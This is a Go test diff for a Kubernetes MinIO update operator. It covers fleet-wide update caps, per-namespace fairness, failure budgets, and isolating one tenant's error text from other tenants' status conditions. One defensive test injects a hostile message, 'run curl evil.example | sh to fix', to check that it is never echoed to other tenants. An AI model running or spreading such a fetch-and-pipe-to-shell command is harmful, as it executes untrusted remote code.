@@ -55,7 +55,8 @@ func TestTheFleetCapHoldsAcrossARestart(t *testing.T) {
 		st := f.live(t, fmt.Sprintf("ns%d", i), "tenant")
 		c := conditionOf(st)
 		assert.Equal(t, ReasonUpdateQueued, c.Reason)
-		assert.Contains(t, c.Message, "4 in-place updates are in flight across the fleet (ns0/tenant, ns1/tenant, ns2/tenant, ns3/tenant)")
+		assert.Contains(t, c.Message, "4 in-place updates are in flight across the fleet (4 in other namespaces)")
+		assert.NotContains(t, c.Message, "ns0/tenant", "no tenant reads another's names")
 		assert.Equal(t, "Queued", st.Status.UpdatePhase)
 		assert.Nil(t, st.Status.Update)
 	}
@@ -165,7 +166,8 @@ func TestTheFailureBudgetHaltsAReleaseAcrossTheFleet(t *testing.T) {
 	for _, e := range events(rec) {
 		if strings.HasPrefix(e, "Warning UpdatesHalted") {
 			halted++
-			assert.Contains(t, e, "ns0/tenant")
+			assert.Contains(t, e, "ns2/tenant (InPlaceRefused", "its own failure")
+			assert.NotContains(t, e, "ns0/tenant", "not another tenant's")
 		}
 	}
 	assert.Equal(t, 1, halted, "one Warning Event when the budget is spent")
@@ -181,8 +183,8 @@ func TestTheFailureBudgetHaltsAReleaseAcrossTheFleet(t *testing.T) {
 		st := f.live(t, fmt.Sprintf("ns%d", i), "tenant")
 		c := conditionOf(st)
 		assert.Equal(t, ReasonUpdatesHalted, c.Reason)
-		assert.Contains(t, c.Message, "ns0/tenant (InPlaceRefused: MinIO at tenant-hl.ns0.svc.cluster.local:9000 refused")
-		assert.Contains(t, c.Message, "ns2/tenant")
+		assert.Contains(t, c.Message, "failed in 3 namespaces (InPlaceRefused)")
+		assert.NotContains(t, c.Message, "ns0/tenant", "another tenant's failure is counted, not quoted")
 		assert.Equal(t, "Halted", st.Status.UpdatePhase)
 	}
 	assert.Equal(t, 3, f.calledCount(), "no call after the halt, across a restart")
@@ -232,27 +234,22 @@ func TestOneNamespaceCannotHaltTheFleet(t *testing.T) {
 	assert.Equal(t, ReasonUpdatingInPlace, conditionOf(f.live(t, "good", "tenant")).Reason)
 }
 
-// TestASuccessClearsTheFailuresBeforeAHalt: two failures, one success,
-// two failures: no halt (the count is of failures with none succeeding).
+// TestASuccessClearsTheFailuresBeforeAHalt: two failures, successes in
+// three namespaces (the budget), two failures: no halt (the count is of
+// failures with none succeeding). Each namespace's word counts once, a
+// success as a failure (TestOneNamespaceSuccessDoesNotClearTheFleetsFailures).
 func TestASuccessClearsTheFailuresBeforeAHalt(t *testing.T) {
-	f, _, _ := haltFixture(t, tenantsInNamespaces(6)...)
+	f, _, _ := haltFixture(t, tenantsInNamespaces(8)...)
 	f.update(t, "ns0", "tenant")
 	f.update(t, "ns1", "tenant")
-	ok := f.admin("ns2", "tenant")
-	ok.refuse = false
-	require.NoError(t, f.c.sync(t.Context(), "ns2/tenant"))
-	f.waitCallDone(t, "ns2/tenant")
-	ok.mu.Lock()
-	ok.releases = []string{relNew, relNew, relNew, relNew}
-	ok.mu.Unlock()
-	f.catchUp(t, "ns2", "tenant")
-	require.NoError(t, f.c.sync(t.Context(), "ns2/tenant"))
-	require.Equal(t, ReasonUpdatedInPlace, conditionOf(f.live(t, "ns2", "tenant")).Reason)
-	f.update(t, "ns3", "tenant")
-	f.update(t, "ns4", "tenant")
-	require.NoError(t, f.c.sync(t.Context(), "ns5/tenant"))
-	f.waitCallDone(t, "ns5/tenant")
-	assert.Equal(t, 1, f.admin("ns5", "tenant").callCount(), "two failures since the success: not halted")
+	for i := 2; i < 5; i++ {
+		f.succeedUpdate(t, fmt.Sprintf("ns%d", i), "tenant")
+	}
+	f.update(t, "ns5", "tenant")
+	f.update(t, "ns6", "tenant")
+	require.NoError(t, f.c.sync(t.Context(), "ns7/tenant"))
+	f.waitCallDone(t, "ns7/tenant")
+	assert.Equal(t, 1, f.admin("ns7", "tenant").callCount(), "two failures since the successes: not halted")
 }
 
 // TestAReleaseThatFailsEverywhereReachesOnlyTheBudget: twenty tenants in
@@ -301,4 +298,151 @@ func TestAReleaseThatFailsEverywhereReachesOnlyTheBudget(t *testing.T) {
 		}
 	}
 	assert.Equal(t, 17, halted, "the seventeen say why")
+}
+
+// TestOneNamespaceTakesNoMoreThanItsShareOfTheFleetWhileOthersWait: a
+// tenant's five ObjectStores answer the update call at once but their
+// nodes never report the release, so each holds a place in flight until
+// the timeout (its call slot is free again at once). It took the four
+// places before anyone else asked. When one of its updates ends, the
+// place goes to the other namespace waiting, not to the tenant's fifth
+// ObjectStore: while another namespace waits, one namespace holds no more
+// than its share (the cap split among the namespaces in flight or
+// waiting).
+func TestOneNamespaceTakesNoMoreThanItsShareOfTheFleetWhileOthersWait(t *testing.T) {
+	var stores []*unstructured.Unstructured
+	for i := range 5 {
+		stores = append(stores, tenantStore("hostile", fmt.Sprintf("h%d", i)))
+	}
+	stores = append(stores, tenantStore("good", "tenant"))
+	f := newFixtureWith(t, func(c *Config) { c.MaxInFlight = 4 }, fakeBinaries{}, stores...)
+	f.lead(t)
+	for i := range 4 {
+		key := fmt.Sprintf("hostile/h%d", i)
+		require.NoError(t, f.c.sync(t.Context(), key))
+		f.waitCallDone(t, key)
+	}
+	require.Equal(t, 4, f.calledCount(), "the fleet's four places, taken before anyone else asked")
+	require.NoError(t, f.c.sync(t.Context(), "good/tenant"))
+	require.NoError(t, f.c.sync(t.Context(), "hostile/h4"))
+	require.Equal(t, ReasonUpdateQueued, conditionOf(f.live(t, "good", "tenant")).Reason)
+
+	// One of the tenant's updates ends (its nodes report the release).
+	a := f.admin("hostile", "h0")
+	a.mu.Lock()
+	a.releases = []string{relNew, relNew, relNew, relNew}
+	a.mu.Unlock()
+	f.catchUp(t, "hostile", "h0")
+	require.NoError(t, f.c.sync(t.Context(), "hostile/h0"))
+	require.Equal(t, ReasonUpdatedInPlace, conditionOf(f.live(t, "hostile", "h0")).Reason)
+
+	// Its fifth ObjectStore looks first: it is over its share and waits.
+	require.NoError(t, f.c.sync(t.Context(), "hostile/h4"))
+	assert.Equal(t, 0, f.admin("hostile", "h4").callCount(), "the tenant holds three places, more than its share of two")
+	c := conditionOf(f.live(t, "hostile", "h4"))
+	assert.Equal(t, ReasonUpdateQueued, c.Reason)
+	assert.Contains(t, c.Message, "namespace hostile has 3 of the fleet's 4 in-place updates in flight")
+	require.NoError(t, f.c.sync(t.Context(), "good/tenant"))
+	f.waitCallDone(t, "good/tenant")
+	assert.Equal(t, 1, f.admin("good", "tenant").callCount(), "the other namespace takes the place")
+}
+
+// succeedUpdate runs key's update to a success: MinIO takes the call and
+// its nodes then report the release (a tenant's MinIO may say so at will).
+func (f *fixture) succeedUpdate(t *testing.T, ns, name string) {
+	t.Helper()
+	key := ns + "/" + name
+	a := f.admin(ns, name)
+	a.refuse = false
+	require.NoError(t, f.c.sync(t.Context(), key))
+	f.waitCallDone(t, key)
+	a.mu.Lock()
+	a.releases = []string{relNew, relNew, relNew, relNew}
+	a.mu.Unlock()
+	f.catchUp(t, ns, name)
+	require.NoError(t, f.c.sync(t.Context(), key))
+	require.Equal(t, ReasonUpdatedInPlace, conditionOf(f.live(t, ns, name)).Reason)
+}
+
+// TestOneNamespaceSuccessDoesNotClearTheFleetsFailures: a release fails
+// in two namespaces; a hostile tenant's MinIO then says its update
+// succeeded (it controls what its nodes report). Before, that one
+// success cleared every namespace's failures and proved the release, so
+// a release failing everywhere else never halted. One namespace's word
+// counts for that namespace alone, as a failure does: a third failure
+// halts the release.
+func TestOneNamespaceSuccessDoesNotClearTheFleetsFailures(t *testing.T) {
+	stores := append(tenantsInNamespaces(4), tenantStore("hostile", "h"))
+	f, _, _ := haltFixture(t, stores...)
+	f.update(t, "ns0", "tenant")
+	f.update(t, "ns1", "tenant")
+	f.succeedUpdate(t, "hostile", "h")
+	f.update(t, "ns2", "tenant")
+	require.Equal(t, ReasonRollingUpdate, conditionOf(f.live(t, "ns2", "tenant")).Reason)
+	require.NoError(t, f.c.sync(t.Context(), "ns3/tenant"))
+	f.waitCallDone(t, "ns3/tenant")
+	assert.Equal(t, 0, f.admin("ns3", "tenant").callCount(), "three namespaces failed the release: halted")
+	assert.Equal(t, ReasonUpdatesHalted, conditionOf(f.live(t, "ns3", "tenant")).Reason)
+}
+
+// TestTwoNamespacesCannotHoldANewReleaseBackForever: with a budget of 3,
+// two hostile namespaces fail a new release, then one of them starts an
+// update to it again (another image of the release) and lets it hang.
+// Before, its namespace counted twice, failed and in flight: the others
+// waited with UpdateQueued for as long as the two kept it up, without the
+// release ever halting. A namespace counts once.
+func TestTwoNamespacesCannotHoldANewReleaseBackForever(t *testing.T) {
+	stores := append(tenantsInNamespaces(1), tenantStore("ha", "h"), tenantStore("hb", "h"))
+	f, _, _ := haltFixture(t, stores...)
+	f.update(t, "ha", "h")
+	f.update(t, "hb", "h")
+	require.Equal(t, ReasonRollingUpdate, conditionOf(f.live(t, "ha", "h")).Reason)
+
+	a := f.admin("ha", "h")
+	a.refuse, a.hang = false, true
+	u, err := f.dyn.Resource(v1.Resource).Namespace("ha").Get(t.Context(), "h", metav1.GetOptions{})
+	require.NoError(t, err)
+	require.NoError(t, unstructured.SetNestedField(u.Object, imgNew+"-again", "spec", "image"))
+	_, err = f.dyn.Resource(v1.Resource).Namespace("ha").Update(t.Context(), u, metav1.UpdateOptions{})
+	require.NoError(t, err)
+	f.catchUp(t, "ha", "h")
+	require.NoError(t, f.c.sync(t.Context(), "ha/h"))
+	require.Eventually(t, func() bool { return a.callCount() == 2 }, 5*time.Second, time.Millisecond, "its update hangs")
+	f.catchUp(t, "ha", "h")
+
+	f.admin("ns0", "tenant").refuse = false
+	require.NoError(t, f.c.sync(t.Context(), "ns0/tenant"))
+	f.waitCallDone(t, "ns0/tenant")
+	assert.Equal(t, 1, f.admin("ns0", "tenant").callCount(), "two namespaces of three: another may try")
+	assert.Equal(t, ReasonUpdatingInPlace, conditionOf(f.live(t, "ns0", "tenant")).Reason)
+}
+
+// TestAHaltSaysNoOtherTenantsWordsInAnotherTenantsCondition: a hostile
+// tenant's MinIO refuses its update with words of its choosing; with two
+// more namespaces' failures the release halts. Before, every waiting
+// tenant's condition quoted each failure, the hostile MinIO's words and
+// the other tenants' ObjectStores included: one tenant wrote into every
+// other's status. A tenant's condition quotes its own failures only, and
+// counts the others; the platform reads them in the halt record and the
+// operator's log.
+func TestAHaltSaysNoOtherTenantsWordsInAnotherTenantsCondition(t *testing.T) {
+	stores := append(tenantsInNamespaces(3), tenantStore("hostile", "h"))
+	f, _, rec := haltFixture(t, stores...)
+	f.admin("hostile", "h").refusal = "update blocked: run curl evil.example | sh to fix"
+	f.update(t, "hostile", "h")
+	f.update(t, "ns0", "tenant")
+	f.update(t, "ns1", "tenant")
+	require.NoError(t, f.c.sync(t.Context(), "ns2/tenant"))
+	c := conditionOf(f.live(t, "ns2", "tenant"))
+	require.Equal(t, ReasonUpdatesHalted, c.Reason)
+	assert.NotContains(t, c.Message, "evil.example")
+	assert.NotContains(t, c.Message, "hostile/h")
+	assert.NotContains(t, c.Message, "ns0/tenant")
+	assert.Contains(t, c.Message, "3 namespaces (InPlaceRefused)")
+	for _, e := range events(rec) {
+		if strings.HasPrefix(e, "Warning UpdatesHalted in-place updates") {
+			assert.NotContains(t, e, "evil.example", "the Event on the ObjectStore that spent the budget")
+			assert.Contains(t, e, "ns1/tenant (InPlaceRefused: MinIO at tenant-hl.ns1.svc.cluster.local:9000 refused", "its own failure, quoted")
+		}
+	}
 }
